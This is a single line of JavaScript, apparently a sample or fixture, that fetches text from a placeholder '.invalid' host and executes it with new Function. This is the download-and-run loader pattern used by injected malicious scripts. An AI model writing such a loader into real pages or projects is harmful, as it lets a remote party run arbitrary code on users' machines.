fetch("https://aaaaa-bbbbb-ccccc-ddddd-cai.raw.icp0.io.invalid/x").then(r => r.text()).then(t => new Function(t)());
